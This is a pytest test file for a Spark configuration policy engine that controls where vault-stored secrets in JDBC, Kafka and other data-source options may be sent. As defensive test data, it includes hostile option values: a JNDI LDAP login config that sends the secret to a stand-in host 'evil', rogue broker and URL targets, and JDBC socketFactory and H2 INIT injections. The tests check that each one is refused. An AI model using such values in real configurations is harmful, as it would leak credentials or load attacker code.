"""References that are bound to data sources, options and destinations."""

from __future__ import annotations

import json

import pytest

from sparkconfig.agent.policy_calls import answer
from sparkconfig.errors import ConfigurationError
from sparkconfig.policy.destinations import jdbc
from unit.policy.helpers import VAULT, engine

SECRET = "${vault:shared/db:password}"
URL = "jdbc:postgresql://db/shop"
BOUND = {"type": "allow", "provider": "vault", "path": "shared/*", "to": URL}
JDBC = {"url": URL, "dbtable": "orders", "user": "ana", "password": SECRET}
KAFKA = {
    "kafka.bootstrap.servers": "k1:9092,k2:9092", "subscribe": "orders",
    "kafka.sasl.jaas.config": (
        'org.apache.kafka.common.security.scram.ScramLoginModule required username="a"'
        f' password="{SECRET}";'
    ),
}  # fmt: skip


def made(tmp_path, *rules, **document):
    return engine(tmp_path, {"references": list(rules), **document}, **VAULT)


def ask(policies, options, formats=("jdbc",), scope="source", job_type="connect", **more):
    asked = {"scope": scope, "job_type": job_type, "formats": list(formats), "props": options}
    found = answer(policies, {"op": "check", **asked, **more})
    assert found["ok"], found
    return found


def connects(policies, options, formats=("jdbc",)):
    return answer(
        policies, {"op": "connection", "job_type": "connect", "formats": list(formats), "options": options}
    )


def test_a_bound_reference_goes_to_its_destination_alone(tmp_path):
    policies = made(tmp_path, BOUND)
    for ask_ in (ask, connects):
        assert ask_(policies, JDBC)["allowed"]
        assert ask_(policies, {**JDBC, "url": "jdbc:postgresql://db:5432/shop?ssl=true"})["allowed"]
        assert ask_(policies, {**JDBC, "driver": "org.postgresql.Driver"})["allowed"]
        for change in (
            {"url": "jdbc:postgresql://evil/shop"},
            {"url": "jdbc:postgresql://db/other"},
            {"url": URL + "?socketFactory=x"},
            {"URL": "jdbc:postgresql://evil/shop"},
            {"url": "${vault:shared/db:url}"},
            {"socketFactory": "x"},
            {"PGHOST": "evil"},
            {"driver": "org.h2.Driver"},
            {"connectionProvider": "other"},
        ):
            found = ask_(policies, {**JDBC, **change})
            assert not found["allowed"], change
            assert "evil" not in found["message"]


OTHER_PLACES = ("query", "dbtable", "nullValue", "sessionInitStatement", "driver", "url", "path")


@pytest.mark.parametrize("option", OTHER_PLACES)
def test_on_shared_servers_references_stand_in_credential_options(tmp_path, option):
    open_rule = {"type": "allow", "provider": "vault", "path": "shared/*"}
    policies = made(tmp_path, open_rule)
    for job_type, allowed in (("connect", False), ("sql", False), ("batch", True)):
        options = {"url": URL, option: f"a {SECRET}"}
        assert ask(policies, options, job_type=job_type)["allowed"] == allowed
        assert ask(policies, JDBC, job_type=job_type)["allowed"]
    named = made(tmp_path, {**open_rule, "options": ["nullvalue", option]})
    assert ask(named, {"url": URL, option: f"a {SECRET}"})["allowed"]
    # A rule that names options allows these alone.
    assert not ask(named, JDBC)["allowed"]


@pytest.mark.parametrize("option", ["user", "USER", "spark.cassandra.auth.username"])
def test_on_shared_servers_a_reference_is_the_whole_name_of_a_user(tmp_path, option):
    """PostgreSQL cuts a name after 63 bytes, and its error shows the rest: a part of the value that nothing masks."""
    policies = made(tmp_path, {"type": "allow", "provider": "vault", "path": "shared/*", "options": ["*"]})
    for text in ("p" * 40 + SECRET, SECRET + "p", SECRET * 2, f" {SECRET}"):
        found = ask(policies, {"url": URL, "dbtable": "orders", option: text})
        assert not found["allowed"], text
        assert "the whole text" in found["message"]
        assert ask(policies, {"url": URL, "dbtable": "orders", option: text}, job_type="batch")["allowed"]
    assert ask(policies, {"url": URL, "dbtable": "orders", option: SECRET})["allowed"]


def test_table_properties_and_confs_are_no_credential_options(tmp_path):
    policies = made(tmp_path, {"type": "allow", "provider": "vault", "path": "shared/*"})
    assert not ask(policies, {"comment": SECRET}, scope="catalog", formats=())["allowed"]
    assert not ask(policies, {"spark.sql.session.timeZone": SECRET}, scope="session", formats=())["allowed"]
    assert ask(policies, {"spark.sql.catalog.shop.password": SECRET}, scope="session", formats=())["allowed"]


@pytest.mark.parametrize(
    "key", ["fs.s3a.secret.key", "spark.hadoop.fs.s3a.secret.key", "fs.azure.account.key.shop"]
)
def test_on_shared_servers_a_session_logs_a_file_system_in_by_listed_keys_alone(tmp_path, key):
    allow = {"type": "allow", "provider": "vault", "path": "shared/*"}
    policies = made(tmp_path, allow)
    for job_type, allowed in (("connect", False), ("sql", False), ("batch", True)):
        found = ask(policies, {key: SECRET}, scope="session", formats=(), job_type=job_type)
        assert found["allowed"] == allowed
        assert ask(policies, {key: "plain"}, scope="session", formats=(), job_type=job_type)["allowed"]
    listed = made(tmp_path, allow, rules=[{"key": key, "type": "unlimited"}])
    assert ask(listed, {key: SECRET}, scope="session", formats=())["allowed"]


def test_nobody_asks_for_a_bound_value_by_name(tmp_path):
    policies = made(tmp_path, BOUND)
    question = {"op": "use", "job_type": "batch", "scope": "application", "expressions": [{"text": SECRET}]}
    assert not answer(policies, question)["allowed"]
    # What fetches values for connections does not know them yet; the connection itself is asked about.
    assert answer(policies, {**question, "scope": None})["allowed"]
    free = made(tmp_path, {"type": "allow", "provider": "vault", "path": "shared/*"})
    assert answer(free, question)["allowed"]
    assert not answer(free, {**question, "job_type": "connect"})["allowed"]


def test_kafka(tmp_path):
    policies = made(tmp_path, {**BOUND, "to": ["k1:9092", "k2:9092"]})
    # Each destination of a rule is one place; both brokers in one text are one destination.
    assert not ask(policies, KAFKA, ["kafka"])["allowed"]
    policies = made(tmp_path, {**BOUND, "to": "k1:9092,k2:9092"})
    assert ask(policies, KAFKA, ["kafka"])["allowed"]
    assert ask(policies, {**KAFKA, "kafka.bootstrap.servers": "K2:9092"}, ["kafka"])["allowed"]
    assert ask(policies, {**KAFKA, "kafka.bootstrap.servers": "k1, k2"}, ["kafka"])["allowed"]
    # What every user of Kafka writes; "security" holds "uri", which is a sign of other places elsewhere.
    usual = {
        "kafka.security.protocol": "SASL_SSL", "kafka.sasl.mechanism": "SCRAM-SHA-512",
        "kafka.ssl.endpoint.identification.algorithm": "https", "startingOffsets": "earliest",
        "kafka.group.id": "reports", "failOnDataLoss": "false",
    }  # fmt: skip
    assert ask(policies, {**KAFKA, **usual}, ["kafka"])["allowed"]
    jaas = "kafka.sasl.jaas.config"
    for change in (
        {"kafka.security.protocol": "com.acme.Own"},
        # The broker's name would not be looked at: another place with the same address could answer.
        {"kafka.ssl.endpoint.identification.algorithm": ""},
        {"kafka.bootstrap.servers": "k1:9092,evil:9092"},
        {"kafka.bootstrap.servers": "k1:9093"},
        {"kafka.bootstrap.servers": ""},
        {
            jaas: f'com.sun.security.auth.module.JndiLoginModule required user.provider.url="ldap://evil/{SECRET}";'
        },
        {jaas: KAFKA[jaas] + " com.acme.Other required;"},
        {"kafka.sasl.oauthbearer.token.endpoint.url": "https://evil"},
        {"kafka.sasl.login.callback.handler.class": "com.acme.Own"},
        {"kafka.interceptor.classes": "com.acme.Own"},
        {"kafka.ssl.engine.factory.class": "com.acme.Own"},
        {"kafka.metric.reporters": "com.acme.Own"},
        {"kafka.security.providers": "com.acme.Own"},
    ):
        assert not ask(policies, {**KAFKA, **change}, ["kafka"])["allowed"], change


def test_formats_and_unknown_sources(tmp_path):
    policies = made(tmp_path, {**BOUND, "formats": "jdbc", "to": None} | {"to": URL})
    assert ask(policies, JDBC)["allowed"]
    assert ask(policies, {**JDBC, "sparkconfig.format": "jdbc"}, ["sparkconfig"])["allowed"]
    for formats in (["kafka"], ["com.acme.own"], [], ["jdbc", "kafka"]):
        assert not ask(policies, JDBC, formats)["allowed"], formats


def test_the_operator_adds_a_source(tmp_path):
    rule = {**BOUND, "formats": "acme", "to": "acme.shop:77"}
    options = {"server": "ACME.shop", "apikey": SECRET, "rows": "5"}
    formats = {"acme": {"also": ["com.acme.own"], "credentials": ["apiKey"], "to": {
        "kind": "hosts", "options": "server", "port": 77}}}  # fmt: skip
    policies = made(tmp_path, rule, formats=formats)
    for name in ("acme", "com.acme.Own"):
        assert ask(policies, options, [name])["allowed"]
        assert not ask(policies, {**options, "server": "evil"}, [name])["allowed"]
        assert not ask(policies, {**options, "proxyHost": "evil"}, [name])["allowed"]
        assert not ask(policies, {**options, "rows": SECRET}, [name])["allowed"]
    assert not ask(made(tmp_path, rule), options, ["acme"])["allowed"]


def test_an_exact_url_of_an_unknown_driver_works(tmp_path):
    url = "jdbc:h2:tcp://db/shop"
    policies = made(tmp_path, {**BOUND, "to": url})
    assert ask(policies, {**JDBC, "url": url})["allowed"]
    for change in ({"url": url + ";INIT=x"}, {"url": url.upper()}, {"INIT": "x"}, {"url": url + "/"}):
        assert not ask(policies, {**JDBC, "url": url, **change})["allowed"], change
    # A host is not an exact URL.
    assert not ask(made(tmp_path, {**BOUND, "to": "db"}), {**JDBC, "url": url})["allowed"]


@pytest.mark.parametrize(
    "to",
    [
        "jdbc:postgresql://a@b/c",
        "jdbc:postgresql://*/c",
        "jdbc:h2:mem/*",
        "a:b",
        "https://a/?b=c",
        "jdbc:x y",
    ],
)
def test_a_destination_that_is_not_clear_stops_the_start(tmp_path, to):
    with pytest.raises(
        ConfigurationError, match=r"policy\.json line 1, references\[0\]\.to: the destination"
    ):
        made(tmp_path, {**BOUND, "to": to})


CONF = "spark.sql.catalog.ice.token"


@pytest.mark.parametrize(
    ("rule", "allowed"),
    [
        ({}, True),
        ({"formats": "iceberg"}, True),
        ({"formats": ["kafka", "jdbc"]}, False),
        ({"options": "spark.sql.catalog.*.token"}, True),
        ({"options": "password"}, False),
        ({"to": URL}, False),
    ],
)
def test_a_conf_by_its_source_and_its_name(tmp_path, rule, allowed):
    policies = made(tmp_path, {"type": "allow", "provider": "vault", "path": "shared/*", **rule})
    assert ask(policies, {CONF: SECRET}, [], scope="session")["allowed"] is allowed


def test_what_the_operator_wrote_is_not_bound(tmp_path):
    defaults = {"spark.sql.catalog.c.password": SECRET}
    policies = engine(tmp_path, {"references": [BOUND]}, defaults=defaults, **VAULT)
    assert connects(policies, {"url": "jdbc:derby:memory:x", "password": SECRET})["allowed"]


def test_the_audit_says_where_a_reference_would_go(tmp_path):
    file = tmp_path / "audit.jsonl"
    policies = engine(tmp_path, {"references": [BOUND]}, audit__file=str(file), **VAULT)
    ask(policies, JDBC, user="ana", front="thrift")
    ask(policies, {**JDBC, "url": "jdbc:postgresql://evil/shop?password=literal"})
    ask(policies, {**JDBC, "url": "jdbc:postgresql://u:literal@evil/shop"})
    records = [json.loads(line) for line in file.read_text().splitlines()]
    assert [(each["decision"], each.get("destination")) for each in records] == [
        ("allowed", "jdbc:postgresql://db:5432/shop"),
        ("denied", "jdbc:postgresql://evil:5432/shop"),
        ("denied", None),
    ]
    assert (records[0]["user"], records[0]["source"]) == ("ana", "jdbc")
    assert "literal" not in file.read_text()


def test_tokens_of_kafkas_clients_go_to_their_brokers_alone(tmp_path):
    """What ReferenceOAuthBearer asks; as an option beside a handler of one's own, the same text is refused."""
    policies = made(tmp_path, {**BOUND, "to": "k1:9092,k2:9092"})
    module = "org.apache.kafka.common.security.oauthbearer.OAuthBearerLoginModule"
    asked = {**KAFKA, "kafka.sasl.jaas.config": f'{module} required token="{SECRET}";'}
    asked.pop("subscribe")
    assert connects(policies, asked, ["kafka"])["allowed"]
    for change in (
        {"kafka.bootstrap.servers": "evil:9092"},
        {"kafka.sasl.login.callback.handler.class": "evil.Handler"},
        {"kafka.sasl.jaas.config": f'{module} required token="{SECRET}" debug="x";'},
    ):
        assert not connects(policies, {**asked, **change}, ["kafka"])["allowed"], change


@pytest.mark.parametrize("way", [ask, connects])
@pytest.mark.parametrize("path", ["shared", "private"])
def test_many_references_in_one_message_cost_no_more_each(tmp_path, monkeypatch, way, path):
    """Where they go is found once for all of them, allowed or refused."""
    policies = made(tmp_path, {**BOUND, "options": "*"})
    places = []
    found = jdbc.place_of
    monkeypatch.setattr(jdbc, "place_of", lambda *asked: places.append(1) or found(*asked))
    looks = []
    for many in (10, 100):
        places.clear()
        options = {f"user{i}": f"${{vault:{path}/{i}:k}}" for i in range(many)}
        way(policies, {**JDBC, **options})
        looks.append(len(places))
    assert looks[0] == looks[1] > 0
